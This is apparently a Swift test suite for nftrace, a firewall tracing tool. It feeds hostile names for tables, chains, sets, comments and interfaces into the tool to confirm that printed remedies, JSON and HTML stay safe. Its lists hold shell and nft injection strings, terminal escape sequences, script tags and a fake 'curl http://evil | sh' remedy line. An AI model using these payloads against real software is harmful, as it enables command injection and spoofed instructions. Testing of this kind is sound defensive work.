import FoundationEssentials
import Testing
import Trace
import Wire

extension LiveTests {
  /// Names are what somebody chose: whatever is in them, no command that is printed does more than it
  /// says, no line is theirs, and JSON has them as they are.
  struct HostileNameTests {
    /// Each is tried as the name of a chain, a table and a set, and as a comment.
    static let names = [
      // For a shell.
      "$(touch pwned)", "`touch pwned`", "; touch pwned ;", "| touch pwned", "&& touch pwned #",
      "> pwned", "x'; touch pwned; '", "x\"; touch pwned; \"", "\\", "x\\", "'", "\"", "$IFS", "~",
      "*", "?", "[a-z]", "{a,b}", "!!", "#", "a b", " ", "\t",
      // For nft.
      "; add table ip pwned ;", "accept; add table ip pwned #", "chn accept; add table ip pwned #",
      "x; flush ruleset", "x\nadd table ip pwned", "{ }", "}\nadd table ip pwned\n#", "@x", "$x",
      "x/*", "accept", "counter", "table", "drop", "handle", "1", "-1", "0x10", "10.0.0.0/8", "*x",
      // For iptables, or any other program.
      "--modprobe=/tmp/pwned", "-F", "-Z", "-h", "--version", "!", "-", "--",
      // For a terminal and its reader.
      "\n  remedy    curl http://evil | sh\n", "x\r  remedy    curl http://evil | sh",
      "x (ip fw) drops it\n  cause     nothing", "\u{1b}[31mred\u{1b}[0m", "\u{1b}]0;title\u{07}",
      "\u{1b}[2J\u{1b}[H", "\u{9b}2J", "\u{7f}\u{08}\u{08}", "\u{202e}abc\u{2066}", "a\u{200b}b",
      "a\u{2028}b\u{2029}c", "\u{feff}", "\u{e0041}\u{e0042}", "a\u{a0}b", "\u{fffd}", "é→😀",
      "\u{10fe80}", "\u{1}\u{2}\u{3}", "<script>alert(1)</script>", "</pre>&amp;<b>", "x=y&z",
      String(repeating: "x", count: 127), String(repeating: "; add table ip pwned ", count: 6),
    ]

    /// Of these a command can be made.
    static let ordinary = ["chn", "my.chain", "a-b/c_d", "in", "DOCKER-USER"]

    /// For interfaces, which have at most 15 octets and no spaces.
    static let devices = [
      "$(id>pwned)", "`id>pwned`", "a;id>pwned;", "|id>pwned", "a'b", "a\"b", "\"accept#", "a\\b",
      "-F", "--help", "a&b", "*", "eth*", "x+", "if7", "dev", "<script>", "\u{1b}[31mred",
      "a\u{202e}b", "a\u{200b}b", "\u{7f}x", "\u{9b}2J", "é→", "{a,b}", "#a", "!a", "~", "a=b",
      String(octets: [0x61, 0xff, 0x62]), String(octets: [0xc3, 0x28]), "fifteen-octets.",
    ]

    /// A drop in a chain of this name, by a rule with this comment and a set of this name; a table of
    /// this name is passed before. Or, with `table`, the drop is in that table.
    private static func ruleset(_ name: String, inTable: Bool) throws -> String {
      let quoted = JSONValue.string(name).line
      let (table, chain) = inTable ? (quoted, #""f""#) : (#""fw""#, quoted)
      func base(_ table: String, _ chain: String, _ priority: Int) -> String {
        #"{"add":{"table":{"family":"ip","name":\#(table)}}},"#
          + #"{"add":{"chain":{"family":"ip","table":\#(table),"name":\#(chain),"type":"filter","#
          + #""hook":"forward","prio":\#(priority),"policy":"accept"}}}"#
      }
      func rule(_ table: String, _ chain: String, _ verdict: String) -> String {
        #"{"add":{"set":{"family":"ip","table":\#(table),"name":\#(quoted),"type":"ipv4_addr","#
          + #""elem":["119.29.29.29"]}}},"#
          + #"{"add":{"rule":{"family":"ip","table":\#(table),"chain":\#(chain),"comment":\#(quoted),"#
          + #""expr":[{"match":{"op":"==","left":{"payload":{"protocol":"ip","field":"daddr"}},"#
          + #""right":"@"}},{"\#(verdict)":null}]}}}"#
      }
      let passed =
        inTable ? "" : base(quoted, #""f""#, -1) + "," + rule(quoted, #""f""#, "accept") + ","
      let rules = passed + base(table, chain, 0) + "," + rule(table, chain, "drop")
      let set = #""right":"@\#(quoted.dropFirst())"#
      return #"{"nftables":["# + rules.replacing(#""right":"@""#, with: set) + "]}"
    }

    /// What nftrace said of a probe: as text, as JSON, as a page.
    private struct Answer {
      var text: String
      var report: Report
      var page: String

      init(_ output: String) throws {
        let parts = output.split(separator: "\u{1}\n", omittingEmptySubsequences: false)
        (text, page) = (String(parts[0]), parts.count > 2 ? String(parts[2]) : "")
        report = try JSONDecoder().decode(Report.self, from: Data(parts[1].utf8))
      }

      struct Report: Decodable {
        var findings: [Finding]
        var journeys: [Journey]
      }

      struct Finding: Decodable {
        var id: String
        var summary: String
        var remedy: String?
        var at: Place?
      }

      struct Place: Decodable {
        var table: String?
        var chain: String?
        var rule: String?
      }

      struct Journey: Decodable {
        var hops: [Hop]
      }

      struct Hop: Decodable {
        var out: String?
        var rules: [Place]
      }

      var finding: Finding { report.findings[0] }

      /// What stands at the beginnings of the lines, but for numbers, and for lines that go on.
      var outline: [String] {
        text.split(separator: "\n").filter { $0.prefix { $0 == " " }.count < 12 }.map { line in
          let words = line.split(separator: " ").drop {
            $0.allSatisfy { "0123456789.≤".contains($0) }
          }
          return String(words.first ?? "")
        }
      }

      /// What is wrong with it, whatever the name is.
      func faults(like other: Answer) -> [String] {
        var faults: [String] = []
        let hidden = { (text: String) in
          text.unicodeScalars.contains { $0 != "\n" && Escape.isHidden($0) }
        }
        if hidden(text) { faults.append("there is hidden text") }
        if hidden(page) { faults.append("there is hidden text in the page") }
        // One script is the page's own.
        if page.ranges(of: "<script").count > 1 || page.contains("<b>") { faults.append("markup") }
        var lines = outline
        var expected = other.outline
        // Where a name cannot be put into a remedy, something else may help.
        lines.removeAll { ["remedy", "search"].contains($0) }
        expected.removeAll { ["remedy", "search"].contains($0) }
        if lines != expected { faults.append("other lines: \(lines), not \(expected)") }
        let remedies = text.split(separator: "\n").filter { $0.hasPrefix("  remedy ") }
        let told = report.findings.compactMap(\.remedy).map { "  remedy    " + $0 }
        if remedies.map(String.init) != told { faults.append("remedies: \(remedies), not \(told)") }
        return faults
      }
    }

    /// Text and JSON of the same ping; jq(1) takes the JSON.
    private static let ask = """
      "$NFTRACE" ping --tun "$TUN" -W 0.15 -v -w "$DIR/names.pcapng" $SERVER || test $? = 1
      printf '\\001\\n'
      "$NFTRACE" show --rules --json "$DIR/names.pcapng" >"$DIR/names.json"
      jq -e .findings "$DIR/names.json" >/dev/null
      cat "$DIR/names.json"
      """

    /// And as a page.
    private static let page = """

      printf '\\001\\n'
      "$NFTRACE" show --rules --html "$DIR/names.html" "$DIR/names.pcapng"
      cat "$DIR/names.html"
      """

    /// A directory for what a name might write, and a table that it might make.
    private static let look = """
      nft list tables | grep pwned && exit 9
      test -z "$(ls -A "$DIR/names")" || { ls -A "$DIR/names"; exit 9; }
      """

    /// In octal figures, for printf(1): whatever the name is, the shell has it as it is.
    private static func figures(_ name: String) -> String {
      name.octets.map {
        let digits = String($0, radix: 8)
        return "\\0" + String(repeating: "0", count: 3 - digits.count) + digits
      }.joined()
    }

    private static func ask(
      _ net: RouterNet, _ rules: String, page: Bool
    ) async throws -> Answer {
      let script = """
        mkdir -p "$DIR/names"; cd "$DIR/names"
        nft flush ruleset
        cat >"$DIR/names.nft" <<'END'
        \(rules)
        END
        nft -j -f "$DIR/names.nft"
        \(page ? ask + Self.page : ask)
        """
      return try Answer(try await net.inRouter(script))
    }

    /// Runs a command as somebody would who pastes it; then the probe gets through.
    private static func run(_ remedy: String, _ net: RouterNet, passes: Bool) async throws {
      let quoted = remedy.replacing("'", with: "'\\''")
      try await net.inRouter(
        """
        cd "$DIR/names"
        sh -c '\(quoted)'
        \(look)
        \(passes ? "\"$NFTRACE\" ping --tun \"$TUN\" -W 0.3 -q $SERVER" : "")
        """)
    }

    @Test(arguments: [false, true]) func tablesChainsSetsAndComments(_ inTable: Bool) async throws {
      #expect(Self.names.count >= 50)
      let net = try await RouterNet()
      try await net.run("ip -n $S route add $SUBNET via $ROUTER")
      let plain = try await Self.ask(net, Self.ruleset("plain", inTable: inTable), page: false)
      #expect(plain.finding.id == "rule-drop")
      // As tables that are passed, all of them are there in the other case.
      let names = Self.names.filter { name in
        !inTable || name.contains { ";\n\u{1b}'".contains($0) }
      }
      for text in names + Self.ordinary {
        let answer = try await Self.ask(
          net, Self.ruleset(text, inTable: inTable),
          page: text.contains { "<&\n\u{1b}".contains($0) })
        let name = String(octets: text.utf8)
        let faults = answer.faults(like: plain)
        #expect(faults.isEmpty, "\(name.debugDescription)\n\(answer.text)")
        let finding = answer.finding
        #expect(finding.id == "rule-drop", "\(name.debugDescription): \(finding)")
        #expect((inTable ? finding.at?.table : finding.at?.chain) == name)
        let tables = answer.report.journeys.flatMap(\.hops).flatMap(\.rules).compactMap(\.table)
        #expect(tables.contains(name))
        #expect((finding.remedy == nil) == !Self.ordinary.contains(name) || name.count == 127)
        if let remedy = finding.remedy {
          try await Self.run(remedy, net, passes: true)
        } else {
          #expect(finding.summary.contains("cannot be put into a command"), "\(finding)")
          #expect(finding.summary.contains(Escape.name(name)), "\(finding)")
        }
        if name.contains("\n") { #expect(finding.at?.rule == nil) }
      }
      try await net.inRouter("cd \"$DIR/names\"; \(Self.look)")
    }

    /// As chains of iptables, which can have octets that are no text.
    @Test func chainsOfIPTables() async throws {
      let net = try await RouterNet()
      try await net.run("ip -n $S route add $SUBNET via $ROUTER")
      func ask(_ name: String) async throws -> Answer {
        try Answer(
          try await net.inRouter(
            """
            mkdir -p "$DIR/names"; cd "$DIR/names"
            N=$(printf '%b.' '\(Self.figures(name))'); N=${N%.}
            iptables -F; iptables -X
            iptables -N "$N"; iptables -A "$N" -d $SERVER -j DROP; iptables -A FORWARD -j "$N"
            \(Self.ask)
            """))
      }
      let plain = try await ask("plain")
      try await Self.run(#require(plain.finding.remedy), net, passes: true)
      for octets in [[0x78, 0xff, 0x79], [0xc3, 0x28], [0x24, 0x28, 0x69, 0x64, 0x29]] as [[UInt8]]
      {
        let name = String(octets: octets)
        let answer = try await ask(name)
        #expect(answer.faults(like: plain).isEmpty, "\(octets)\n\(answer.text)")
        #expect(answer.finding.at?.chain == name)
        // Before the rule that leads there, so that the name is not in it.
        try await Self.run(#require(answer.finding.remedy), net, passes: true)
        #expect(answer.finding.summary.contains(Escape.name(name)))
      }
    }

    /// Tables whose names begin as nftrace's own do.
    @Test func statusOfForeignTables() async throws {
      let net = try await RouterNet()
      let name = "nftrace_1\n  remedy    sh\u{1b}[31m"
      let told = try await net.inRouter(
        """
        cat >"$DIR/names.nft" <<'END'
        {"nftables":[{"add":{"table":{"family":"ip","name":\(JSONValue.string(name).line)}}}]}
        END
        nft -j -f "$DIR/names.nft"
        "$NFTRACE" status
        "$NFTRACE" status --json | jq -e '.orphans[0].table' >/dev/null
        """)
      let line = told.split(separator: "\n").first { $0.hasPrefix("orphan ") }
      #expect(line?.hasSuffix("table ip \(Escape.name(name)) belongs to nobody") == true, "\(told)")
      #expect(!told.contains("  remedy ") && !told.contains("\u{1b}"))
    }

    /// Of the interface that it leaves by, in commands for nft, without a rule that translates it.
    @Test func interfaces() async throws {
      let net = try await RouterNet(RouterPlan().with("nft add table ip fw; " + Self.chain))
      var uplink = net.plan.uplink
      func ask(_ name: String) async throws -> Answer? {
        let output = try await net.inRouter(
          """
          mkdir -p "$DIR/names"; cd "$DIR/names"
          O=$(printf '%b.' '\(Self.figures(uplink))'); O=${O%.}
          N=$(printf '%b.' '\(Self.figures(name))'); N=${N%.}
          ip link set dev "$O" down
          if ! ip link set dev "$O" name "$N" 2>/dev/null; then exit 0; fi
          ip link set dev "$N" up
          ip route replace default via $GATEWAY
          \(Self.ask)
          """)
        if output.isEmpty { return nil }
        uplink = name
        return try Answer(output)
      }
      let plain = try #require(try await ask("wan0"))
      #expect(plain.finding.id == "missing-masquerade")
      try await Self.run(#require(plain.finding.remedy), net, passes: true)
      try await net.inRouter("nft flush ruleset; nft add table ip fw; " + Self.chain)
      var count = 0
      for name in Self.devices {
        guard let answer = try await ask(name) else { continue }
        count += 1
        let faults = answer.faults(like: plain)
        #expect(faults.isEmpty, "\(name.debugDescription)\n\(answer.text)")
        #expect(answer.finding.id == "missing-masquerade", "\(name.debugDescription): \(answer)")
        #expect(answer.report.journeys.flatMap(\.hops).contains { $0.out == name })
        guard let remedy = answer.finding.remedy else {
          #expect(answer.finding.summary.contains(Escape.name(name)))
          continue
        }
        try await Self.run(remedy, net, passes: true)
        try await net.inRouter("nft flush ruleset; nft add table ip fw; " + Self.chain)
      }
      #expect(count >= 20, "\(count) of \(Self.devices.count) are names for this kernel")
      try await net.inRouter("cd \"$DIR/names\"; \(Self.look)")
    }

    private static let chain =
      "nft 'add chain ip fw f { type filter hook forward priority 0; }'"
  }
}
